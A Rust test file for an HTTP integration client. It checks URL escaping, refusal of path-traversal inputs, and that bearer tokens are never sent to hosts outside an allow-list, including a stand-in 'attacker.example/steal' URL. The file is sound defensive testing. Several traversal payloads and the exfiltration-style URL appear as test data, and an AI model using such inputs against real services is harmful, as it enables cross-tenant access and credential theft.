//! Where a credential may go: the base URL's path kept, no dot segment out of
//! it, no host the integration does not name.

use integrations::ErrorKind;
use integrations::http::{Method, StatusCode};
use wiremock::matchers::method;
use wiremock::{Mock, MockServer, ResponseTemplate};

mod common;
use common::*;

#[tokio::test]
async fn values_in_the_base_url_path_are_escaped() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .respond_with(ResponseTemplate::new(200))
        .mount(&server)
        .await;
    let definitions = format!(
        r#"
        [[integration]]
        key = "crm"
        name = "CRM"
        base_url = "{}/tenants/{{tenant}}"
        parameters = [{{ name = "tenant" }}]
        auth = {{ type = "api_token", token = {{ parameter_type = "header", parameter_name = "X-Key", value_template = "{{token}}" }} }}
        "#,
        server.uri()
    );
    let hub = hub(&definitions, &[("tenant", "a/b c?d")], &[("token", "k")]).await;
    let account = hub.client(&acct()).await.expect("account");
    account.request(Method::GET, "items").send().await.expect("sent");
    let request = only_request(&server).await;
    assert_eq!(request.url.path(), "/tenants/a%2Fb%20c%3Fd/items");
    assert_eq!(header_values(&request, "x-key"), ["k"]);
}

#[tokio::test]
async fn dot_segments_cannot_leave_the_base_url_path() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .respond_with(ResponseTemplate::new(200))
        .mount(&server)
        .await;
    let definitions = format!(
        r#"
        [[integration]]
        key = "crm"
        name = "CRM"
        base_url = "{}/v2/tenant/t1"
        auth = {{ type = "api_token", token = {{ parameter_type = "header", parameter_name = "X-Key", value_template = "{{token}}" }} }}
        "#,
        server.uri()
    );
    let hub = hub(&definitions, &[], &[("token", "t1-token")]).await;
    let account = hub.client(&acct()).await.expect("account");
    for path in [
        "../../other-tenant/x",
        "/../../other-tenant/x",
        "%2e%2e/%2E%2E/other-tenant/x",
        ".%2e/x",
        "..\\..\\other-tenant\\x",
        "a/./b",
        "a/%2e/b",
        "a/..%2f..%2fother-tenant",
        "..",
    ] {
        let error = account
            .request(Method::GET, path)
            .send()
            .await
            .expect_err(&format!("{path} must be refused"));
        assert_eq!(error.kind(), ErrorKind::InvalidInput, "{path}: {error}");
        assert!(error.to_string().contains(path), "the error names the path: {error}");
    }
    assert!(
        server.received_requests().await.expect("recording").is_empty(),
        "nothing may be sent for a path with dot segments"
    );
    // Dots inside a segment are names, not segments.
    for path in ["report.v2.csv", "a/.well-known/b", "a/...", "v1.2/x"] {
        let sent = account.request(Method::GET, path).send().await.expect("sent");
        assert_eq!(sent.status(), StatusCode::OK, "{path}");
    }
}

#[tokio::test]
async fn credentials_go_to_no_other_host() {
    let server = MockServer::start().await;
    let elsewhere = MockServer::start().await;
    for target in [&server, &elsewhere] {
        Mock::given(method("GET"))
            .respond_with(ResponseTemplate::new(200))
            .mount(target)
            .await;
    }
    let elsewhere_port = elsewhere.address().port();
    let definitions = format!(
        r#"
        [[integration]]
        key = "crm"
        name = "CRM"
        base_url = "{}/api"
        allowed_hosts = ["localhost"]
        auth = {{ type = "api_token", token = {{ parameter_type = "header", parameter_name = "Authorization", value_template = "Bearer {{token}}" }} }}
        "#,
        server.uri()
    );
    let hub = hub(&definitions, &[], &[("token", "tok")]).await;
    let account = hub.client(&acct()).await.expect("account");

    for url in [
        format!("{}/steal", elsewhere.uri()),
        "https://attacker.example/steal".to_owned(),
        "http://example.com/plain".to_owned(),
        "ftp://127.0.0.1/x".to_owned(),
    ] {
        let error = account.request(Method::GET, &url).send().await.expect_err("refused");
        assert_eq!(error.kind(), ErrorKind::Refused, "{url}: {error}");
        assert!(!error.to_string().contains("tok"), "{error}");
    }
    let message = account
        .request(Method::GET, &format!("{}/steal", elsewhere.uri()))
        .send()
        .await
        .expect_err("refused")
        .to_string();
    assert!(
        message.starts_with(&format!(
            "request refused: 127.0.0.1:{elsewhere_port} is not a host this integration sends credentials to"
        )),
        "{message}"
    );
    assert!(
        elsewhere.received_requests().await.expect("recording").is_empty(),
        "nothing may reach another host"
    );

    // allowed_hosts lets `localhost` through, on any port.
    let allowed = account
        .request(Method::GET, &format!("http://localhost:{elsewhere_port}/ok"))
        .send()
        .await
        .expect("allowed host");
    assert_eq!(allowed.status(), StatusCode::OK);
}

/// A transport error names its destination, unless a secret parameter may
/// be part of it.
#[tokio::test]
async fn a_destination_that_holds_a_secret_is_not_named_in_errors() {
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .and_then(|listener| listener.local_addr())
        .expect("free port")
        .port()
        .to_string();
    let definitions = r#"
        [[integration]]
        key = "hidden"
        name = "Hidden"
        base_url = "http://127.0.0.1:{port}/v1"
        parameters = [{ name = "port", secret = true }]
        retry = { max_attempts = 1 }
        auth = { type = "api_token", token = { parameter_type = "header", parameter_name = "X-Key", value_template = "{token}" } }
    "#;
    let hub = hub(definitions, &[("port", &port)], &[("token", "k")]).await;
    let account = hub.client(&acct()).await.expect("account");
    let error = account.get("/x").send().await.expect_err("nothing listens");
    assert_eq!(error.kind(), ErrorKind::Transport, "{error}");
    let message = error.to_string();
    assert!(
        message.contains("cannot connect to the integration's host: connection refused"),
        "{message}"
    );
    assert!(!message.contains(&port), "the secret port leaked: {message}");
}
